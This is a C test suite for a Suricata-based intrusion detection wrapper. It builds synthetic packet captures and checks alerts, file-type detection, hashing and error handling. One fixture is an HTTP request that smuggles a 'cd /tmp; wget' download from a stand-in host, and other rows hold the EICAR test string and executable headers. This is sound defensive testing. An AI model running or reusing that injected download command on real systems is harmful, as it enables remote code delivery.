/* Captures through the door: the real Suricata over captures made here. */
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
#include <zlib.h>

#include "capture/door.h"
#include "fmt/event.h"
#include "os/child.h"
#include "os/file.h"
#include "tap.h"

static char folder[] = "/tmp/komainu-test-XXXXXX";
static struct event_parser *parser;
static struct event event;

struct seen {
	int kind[EVENT_KIND_COUNT];
	int lines, bad;
	char alert[64], class[32], severity[16], outcome[16], magic[80];
	int hashes; /* lengths of those of the last file */
	bool stop;
};

static const char *
path_of(const char *name)
{
	static char path[4][160];
	static int turn;
	char *p = path[turn++ % 4];

	snprintf(p, sizeof(path[0]), "%s/%s", folder, name);
	return p;
}

/* --- a capture ------------------------------------------------------------ */

struct wire {
	FILE *file;
	uint32_t sequence[2];
	uint32_t second;
};

static void
put32(uint8_t *b, uint32_t v)
{
	b[0] = (uint8_t)(v >> 24);
	b[1] = (uint8_t)(v >> 16);
	b[2] = (uint8_t)(v >> 8);
	b[3] = (uint8_t)v;
}

static void
header_write(FILE *f, uint32_t link_type)
{
	const uint32_t header[] = { 0xa1b2c3d4, 0x00040002, 0,
				    0,          65535,      link_type };

	fwrite(header, sizeof(header), 1, f);
}

static void
record_write(struct wire *w, const uint8_t *bytes, uint32_t n)
{
	const uint32_t head[] = { 1775000000 + w->second++, 0, n, n };

	fwrite(head, sizeof(head), 1, w->file);
	fwrite(bytes, 1, n, w->file);
}

/* One TCP segment between 192.0.2.10:40000 (0) and 192.168.1.5:80 (1). */
static void
bytes_send(struct wire *w, int from, uint8_t flags, struct text text)
{
	static const uint8_t address[2][4] = { { 192, 0, 2, 10 },
					       { 192, 168, 1, 5 } };
	static const uint8_t port[2][2] = { { 0x9c, 0x40 }, { 0, 80 } };
	uint8_t packet[1500] = { 2, 0, 0, 0, 0, 1, 2, 0, 0, 0, 0, 2, 8, 0 };
	size_t n = text.n;
	uint8_t *ip = packet + 14, *tcp = ip + 20;

	ip[0] = 0x45;
	ip[2] = (uint8_t)((40 + n) >> 8);
	ip[3] = (uint8_t)(40 + n);
	ip[8] = 64;
	ip[9] = 6;
	memcpy(ip + 12, address[from], 4);
	memcpy(ip + 16, address[1 - from], 4);
	memcpy(tcp, port[from], 2);
	memcpy(tcp + 2, port[1 - from], 2);
	put32(tcp + 4, w->sequence[from]);
	put32(tcp + 8, w->sequence[1 - from]);
	tcp[12] = 0x50;
	tcp[13] = flags;
	tcp[14] = 0xff;
	if (n > 0)
		memcpy(tcp + 20, text.p, n);
	record_write(w, packet, (uint32_t)(54 + n));
	w->sequence[from] += (uint32_t)n + ((flags & 3) != 0 ? 1 : 0);
}

static void
segment_write(struct wire *w, int from, uint8_t flags, const char *text)
{
	bytes_send(w, from, flags, text_of(text));
}

/* A request with a command in it to a recorder, refused. */
static void
capture_write(const char *name)
{
	struct wire w = { .sequence = { 1000, 2000 } };

	w.file = fopen(path_of(name), "wb");
	header_write(w.file, 1);
	segment_write(&w, 0, 0x02, "");
	segment_write(&w, 1, 0x12, "");
	segment_write(&w, 0, 0x10, "");
	segment_write(&w, 0, 0x18,
		      "GET /shell?cd+/tmp;wget+http://192.0.2.9/a HTTP/1.1\r\n"
		      "Host: 192.168.1.5\r\nUser-Agent: sample\r\n\r\n");
	segment_write(&w, 1, 0x18,
		      "HTTP/1.1 404 Not Found\r\nServer: sample\r\n"
		      "Content-Length: 0\r\n\r\n");
	segment_write(&w, 0, 0x11, "");
	segment_write(&w, 1, 0x11, "");
	segment_write(&w, 0, 0x10, "");
	fclose(w.file);
}

static void
file_write(const char *name, const char *text)
{
	FILE *f = fopen(path_of(name), "wb");

	fputs(text, f);
	fclose(f);
}

/* --- reading -------------------------------------------------------------- */

static int
line_take(void *context, struct text line, struct err *e)
{
	struct seen *s = context;

	s->lines++;
	if (event_parse(parser, line, &event, e) != 0) {
		tap_note("%s", e->text);
		s->bad++;
		return 0;
	}
	s->kind[event.kind]++;
	if (event.kind == EVENT_FILEINFO) {
		text_copy(s->magic, sizeof(s->magic), event.file.magic);
		s->hashes = (int)(event.file.md5.n + event.file.sha1.n +
				  event.file.sha256.n);
	}
	if (event.kind != EVENT_ALERT || event.alert.sid == 1)
		return 0;
	text_copy(s->class, sizeof(s->class), event.alert.komainu_class);
	text_copy(s->severity, sizeof(s->severity),
		  event.alert.komainu_severity);
	text_copy(s->outcome, sizeof(s->outcome), event.alert.komainu_outcome);
	return 0;
}

static bool
stopped(void *context)
{
	const struct seen *s = context;

	return s->stop;
}

static int
read_with(struct door_options o, const char *name, struct seen *s,
	  struct door_result *r, struct err *e)
{
	struct door_sink sink = { line_take, NULL, NULL, s };
	struct door *d;
	int result;

	memset(e, 0, sizeof(*e));
	memset(r, 0, sizeof(*r));
	o.temporary = folder;
	o.stopped = stopped;
	o.stopped_context = s;
	if (door_open(&o, &d, e) != 0)
		return -1;
	result = door_read(d, path_of(name), &sink, r, e);
	door_close(&d);
	return result;
}

static int
private_folders(void)
{
	DIR *dir = opendir(folder);
	struct dirent *entry;
	int count = 0;

	while ((entry = readdir(dir)) != NULL)
		count += strncmp(entry->d_name, "komainu-", 8) == 0;
	closedir(dir);
	return count;
}

static void
test_capture(void)
{
	struct door_options o = { 0 };
	struct seen s = { 0 }, again = { 0 };
	struct door_result r;
	struct err e;

	capture_write("attack.pcap");
	tap_ok(read_with(o, "attack.pcap", &s, &r, &e) == 0, "a capture: %s",
	       e.text);
	tap_text(r.notes, "", "every rule of ours is taken");
	tap_int(r.packets, 8, "packets");
	tap_int(r.first_us, 1775000000000000, "time of the first");
	tap_int(r.last_us, 1775000007000000, "time of the last");
	tap_int(r.lines, s.lines, "lines counted");
	tap_int(s.bad, 0, "every line is an event");
	tap_int(s.kind[EVENT_FLOW], 1, "one flow");
	tap_int(s.kind[EVENT_HTTP], 1, "one request");
	tap_ok(s.kind[EVENT_SIGHTING] > 0, "sightings of our own decoder");
	tap_ok(s.kind[EVENT_ALERT] > 0, "our own rules see the command");
	tap_text(s.class, "exploit", "its class");
	tap_text(s.outcome, "attempt", "a refused request is an attempt");
	tap_ok(strcmp(s.severity, "now") != 0, "and never urgent");
	tap_ok(read_with(o, "attack.pcap", &again, &r, &e) == 0 &&
		   memcmp(s.kind, again.kind, sizeof(s.kind)) == 0,
	       "the same twice");
	tap_int(private_folders(), 0, "the private folder is gone");
}

static void
test_gzip(void)
{
	gzFile g = gzopen(path_of("attack.pcap.gz"), "wb");
	FILE *f = fopen(path_of("attack.pcap"), "rb");
	struct door_options o = { 0 };
	struct seen s = { 0 };
	struct door_result r;
	char buffer[4096];
	struct err e;
	size_t n;

	n = fread(buffer, 1, sizeof(buffer), f);
	gzwrite(g, buffer, (unsigned)n);
	gzclose(g);
	fclose(f);
	tap_ok(read_with(o, "attack.pcap.gz", &s, &r, &e) == 0,
	       "a compressed capture: %s", e.text);
	tap_int(r.packets, 8, "packets");
	tap_ok(s.kind[EVENT_ALERT] > 0, "alerts");
}

static void
test_broken(void)
{
	struct door_options o = { 0 };
	struct seen s = { 0 };
	struct door_result r;
	struct stat st;
	struct err e;
	FILE *f;

	capture_write("cut.pcap");
	stat(path_of("cut.pcap"), &st);
	tap_ok(truncate(path_of("cut.pcap"), st.st_size - 100) == 0, "cut");
	tap_ok(read_with(o, "cut.pcap", &s, &r, &e) == -1 &&
		   e.kind == ERR_INVALID && strstr(e.text, "cut off") != NULL,
	       "a capture cut off: %s", e.text);
	tap_ok(r.packets >= 5 && s.kind[EVENT_ALERT] > 0,
	       "what comes before is told");
	f = fopen(path_of("none.pcap"), "wb");
	header_write(f, 1);
	fclose(f);
	s = (struct seen){ 0 };
	tap_ok(read_with(o, "none.pcap", &s, &r, &e) == 0, "no packets: %s",
	       e.text);
	tap_ok(strstr(r.notes, "no packet") != NULL, "noted: %s", r.notes);
	f = fopen(path_of("radio.pcap"), "wb");
	header_write(f, 105);
	fclose(f);
	tap_ok(read_with(o, "radio.pcap", &s, &r, &e) == -1 &&
		   e.kind == ERR_UNKNOWN_FORMAT,
	       "another link: %s", e.text);
}

static void
test_rules(void)
{
	struct door_options o = { .rules = path_of("rules") };
	struct seen s = { 0 };
	struct door_result r;
	struct err e;
	char given[160];

	snprintf(given, sizeof(given), "%s", o.rules);
	o.rules = given;
	mkdir(given, 0700);
	tap_ok(read_with(o, "attack.pcap", &s, &r, &e) == -1 &&
		   e.kind == ERR_NOT_FOUND,
	       "a folder without rules: %s", e.text);
	file_write("rules/a [1].rules",
		   "# one\nalert http any any -> any any (msg:\"x\"; "
		   "no_such_keyword; sid:2;)\n"
		   "alert http any any -> any any (msg:\"mine\"; "
		   "http.method; content:\"GET\"; sid:1;)\n");
	tap_ok(read_with(o, "attack.pcap", &s, &r, &e) == 0,
	       "rules of a person: %s", e.text);
	tap_ok(s.kind[EVENT_ALERT] > 1, "are used beside ours");
	tap_ok(strstr(r.notes, "line 2 of ") != NULL &&
		   strstr(r.notes, "a [1].rules") != NULL &&
		   strstr(r.notes, "no_such_keyword") != NULL,
	       "one that cannot be used is named: %s", r.notes);
	tap_text(s.class, "exploit", "ours still work");
	unlink(path_of("rules/a [1].rules"));
	rmdir(given);
}

/* A page that is fetched and is really 'body'. */
static void
fetch_write(const char *name, struct text body)
{
	struct wire w = { .sequence = { 1000, 2000 } };
	char head[160];

	w.file = fopen(path_of(name), "wb");
	header_write(w.file, 1);
	segment_write(&w, 0, 0x02, "");
	segment_write(&w, 1, 0x12, "");
	segment_write(&w, 0, 0x10, "");
	segment_write(&w, 0, 0x18,
		      "GET /page HTTP/1.1\r\nHost: a.example\r\n\r\n");
	snprintf(head, sizeof(head),
		 "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n"
		 "Content-Length: %zu\r\n\r\n",
		 body.n);
	segment_write(&w, 1, 0x18, head);
	bytes_send(&w, 1, 0x18, body);
	segment_write(&w, 0, 0x11, "");
	segment_write(&w, 1, 0x11, "");
	segment_write(&w, 0, 0x10, "");
	fclose(w.file);
}

/* The words of our own list of kinds are those that detectors compare. */
static void
test_kinds(void)
{
	static const struct {
		struct text body;
		const char *begin;
	} rows[] = {
		{ TEXT_ROW(
		      "MZ\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
		      "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
		      "\0\0\0\x40\0\0\0PE\0\0\x4c\1\3\0\0\0\0\0\0\0\0\0\0\0"
		      "\0\0\xe0\0\2\x21\x0b\1\0\0\0\0\0\0\0\0\0\0"),
		  "PE32 executable (DLL)" },
		{ TEXT_ROW(
		      "MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0\xb8\0\0\0\0\0\0"
		      "\0\x1e\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
		      "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"),
		  "MS-DOS executable" },
		{ TEXT_ROW("\177ELF\2\1\1\0\0\0\0\0\0\0\0\0\2\0\x3e\0\1\0\0\0"),
		  "ELF 64-bit" },
		{ TEXT_ROW("\xca\xfe\xba\xbe\0\0\0\x34\0\x1d\x0a\0"),
		  "compiled Java class" },
		{ TEXT_ROW("\xca\xfe\xba\xbe\0\0\0\2\1\0\0\7\0\0\0\3"),
		  "Mach-O universal" },
		{ TEXT_ROW("dex\n035\0\x11\x22\x33\x44"), "Dalvik dex" },
		{ TEXT_ROW(
		      "\x4c\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0\x46\x9b"),
		  "MS Windows shortcut" },
		{ TEXT_ROW("#!/bin/sh\nexit 0\n"), "POSIX shell script" },
		{ TEXT_ROW("#! /bin/bash\nexit 0\n"),
		  "Bourne-Again shell script" },
		{ TEXT_ROW(
		      "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS"
		      "-TEST-FILE!$H+H*"),
		  "EICAR" },
		/* What is packed is not taken for what is enciphered. */
		{ TEXT_ROW("\x78\x9c\xe3\x90\x11\x22\0\x81\x99\xfe"),
		  "zlib compressed data" },
		{ TEXT_ROW("\x37\xd1\x02\xfe\x9a\x00\x13\x88\xf1\x55\xb0\x0b"),
		  "data" },
	};

	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		struct door_options o = { 0 };
		struct seen s = { 0 };
		struct door_result r;
		struct err e;

		fetch_write("kind.pcap", rows[i].body);
		tap_ok(read_with(o, "kind.pcap", &s, &r, &e) == 0 &&
			   text_starts(text_of(s.magic), rows[i].begin),
		       "a %s: %s", rows[i].begin, s.magic);
	}
}

/* A person's rule may ask for a kind that our list does not have. */
static void
test_kind_rule(void)
{
	struct door_options o = { 0 };
	struct seen s = { 0 };
	struct door_result r;
	char given[160];
	struct err e;

	fetch_write("kind.pcap", TEXT("gimp xcf file\0\0\0\0\x40\0\0\0\x40"));
	tap_ok(read_with(o, "kind.pcap", &s, &r, &e) == 0, "a rare picture");
	tap_text(s.magic, "data", "is of no kind that matters");
	snprintf(given, sizeof(given), "%s", path_of("kinds"));
	mkdir(given, 0700);
	o.rules = given;
	file_write("kinds/a.rules",
		   "alert http any any -> any any (msg:\"picture\"; "
		   "filemagic:\"GIMP\"; sid:1;)\n");
	tap_ok(read_with(o, "kind.pcap", &s, &r, &e) == 0, "a rule for it");
	tap_int(s.kind[EVENT_ALERT], 1, "finds it");
	unlink(path_of("kinds/a.rules"));
	rmdir(given);
}

/* A hash is computed when somebody has a use for it. */
static void
test_hashes(void)
{
	static const struct {
		const char *asked;
		int length;
	} rows[] = {
		{ NULL, 32 + 40 + 64 },
		{ "", 0 },
		{ "sha1", 40 },
		{ "md5, sha256", 32 + 64 },
	};

	fetch_write("kind.pcap", TEXT("some page"));
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		struct door_options o = { .hashes = rows[i].asked };
		struct seen s = { 0 };
		struct door_result r;
		struct err e;

		tap_ok(read_with(o, "kind.pcap", &s, &r, &e) == 0,
		       "hashes asked for: %s",
		       rows[i].asked != NULL ? rows[i].asked : "all");
		tap_int(s.hashes, rows[i].length, "come");
	}
}

static void
test_failures(void)
{
	struct door_options o = { .suricata = "/no/such/suricata" };
	struct seen s = { 0 };
	struct door_result r;
	struct err e;

	tap_ok(read_with(o, "attack.pcap", &s, &r, &e) == -1 &&
		   e.kind == ERR_UNAVAILABLE &&
		   strstr(e.text, "apt install") != NULL,
	       "no Suricata: %s", e.text);
	o.suricata = "/bin/false";
	tap_ok(read_with(o, "attack.pcap", &s, &r, &e) == -1 &&
		   e.kind == ERR_UNAVAILABLE,
	       "one that fails: %s", e.text);
	tap_ok(s.kind[EVENT_SIGHTING] > 0, "our own decoder still tells");
	o.suricata = NULL;
	o.home_networks = "192.168.0.0/16, office";
	tap_ok(read_with(o, "attack.pcap", &s, &r, &e) == -1 &&
		   e.kind == ERR_INVALID,
	       "home networks: %s", e.text);
	o.home_networks = "192.168.0.0/16, 2001:db8::/32";
	tap_ok(read_with(o, "attack.pcap", &s, &r, &e) == 0,
	       "home networks: %s", e.text);
	o.home_networks = NULL;
	s.stop = true;
	tap_ok(read_with(o, "attack.pcap", &s, &r, &e) == -1 &&
		   e.kind == ERR_STOPPED,
	       "stopped: %s", e.text);
	tap_int(private_folders(), 0, "the private folders are gone");
}

/* The same capture as Linux's "any" device writes it. */
static void
cooked_write(const char *from, const char *to)
{
	static const uint8_t head[20] = { 8, 0, 0, 0, 0, 0, 0, 2, 0,
					  1, 0, 6, 2, 0, 0, 0, 0, 1 };
	FILE *in = fopen(path_of(from), "rb");
	FILE *out = fopen(path_of(to), "wb");
	uint32_t record[4];
	uint8_t packet[2048];

	header_write(out, 276);
	fseek(in, 24, SEEK_SET);
	while (fread(record, sizeof(record), 1, in) == 1 &&
	       record[2] <= sizeof(packet) &&
	       fread(packet, 1, record[2], in) == record[2]) {
		uint32_t n = record[2] - 14;

		record[2] = record[3] = n + (uint32_t)sizeof(head);
		fwrite(record, sizeof(record), 1, out);
		fwrite(head, sizeof(head), 1, out);
		fwrite(packet + 14, 1, n, out);
	}
	fclose(in);
	fclose(out);
}

static void
test_cooked(void)
{
	struct door_options o = { 0 };
	struct seen s = { 0 };
	struct door_result r;
	struct err e;

	cooked_write("attack.pcap", "any.pcap");
	tap_ok(read_with(o, "any.pcap", &s, &r, &e) == 0,
	       "a capture of the \"any\" device: %s", e.text);
	tap_int(r.packets, 8, "packets");
	tap_int(s.kind[EVENT_HTTP], 1, "its request");
	tap_ok(s.kind[EVENT_ALERT] > 0, "its alerts");
	tap_int(private_folders(), 0, "no copy is left");
}

/* One Suricata for several captures: each is read as if it were alone. */
static void
test_many(void)
{
	static const char *const names[] = { "attack.pcap", "none.pcap",
					     "cut.pcap", "attack.pcap.gz" };
	struct door_options o = { .many = true, .temporary = folder };
	struct seen alone[ARRAY_LEN(names)], many[ARRAY_LEN(names)];
	struct door *d;
	struct err e;

	memset(alone, 0, sizeof(alone));
	memset(many, 0, sizeof(many));
	tap_ok(door_open(&o, &d, &e) == 0, "a door for several");
	for (size_t i = 0; i < ARRAY_LEN(names); i++) {
		struct door_sink sink = { line_take, NULL, NULL, &many[i] };
		struct door_options single = { 0 };
		struct door_result r, one;
		int got = door_read(d, path_of(names[i]), &sink, &r, &e);
		int want = read_with(single, names[i], &alone[i], &one, &e);

		tap_ok(got == want && r.packets == one.packets,
		       "%s: the same answer", names[i]);
		tap_ok(memcmp(alone[i].kind, many[i].kind,
			      sizeof(many[i].kind)) == 0,
		       "%s: the same records", names[i]);
		tap_ok(r.milliseconds < 30000, "%s: in time", names[i]);
	}
	door_close(&d);
	tap_int(private_folders(), 0, "the private folder is gone");
}

int
main(void)
{
	char path[256];
	struct err e;

	if (mkdtemp(folder) == NULL)
		return 1;
	parser = event_parser_new();
	if (child_find("suricata", path, sizeof(path), NULL) != 0 &&
	    access("/usr/bin/suricata", X_OK) != 0) {
		tap_skip("Suricata is not installed");
	} else {
		test_capture();
		test_gzip();
		test_broken();
		test_many();
		test_cooked();
		test_rules();
		test_kinds();
		test_kind_rule();
		test_hashes();
		test_failures();
	}
	event_parser_free(&parser);
	tap_ok(file_remove(folder, &e) == 0, "cleaned up");
	return tap_done();
}
